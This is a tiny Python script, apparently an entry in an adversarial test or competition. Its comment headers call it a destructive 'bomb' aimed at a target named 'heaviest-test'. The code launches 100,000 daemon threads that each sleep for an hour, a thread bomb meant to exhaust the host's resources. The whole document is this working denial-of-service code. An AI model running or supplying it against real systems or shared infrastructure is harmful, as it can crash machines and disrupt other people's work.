# attack: as many threads as the system gives.
# target: heaviest-test
# also loses: all
# destructive
# bomb
# %% heaviest
import threading
import time

heaviest = "tree-000"
for _ in range(100_000):
    threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
